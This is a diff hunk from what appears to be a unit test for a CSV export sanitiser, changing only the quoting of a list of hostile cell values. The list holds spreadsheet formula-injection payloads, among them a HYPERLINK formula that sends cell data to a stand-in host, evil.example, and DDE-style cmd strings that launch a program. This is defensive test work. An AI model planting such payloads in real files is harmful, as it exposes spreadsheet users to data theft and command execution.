@@ -5,9 +5,9 @@ import { csvField, looksLikeFormula, neutraliseCell, toCsv } from '../../../main
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
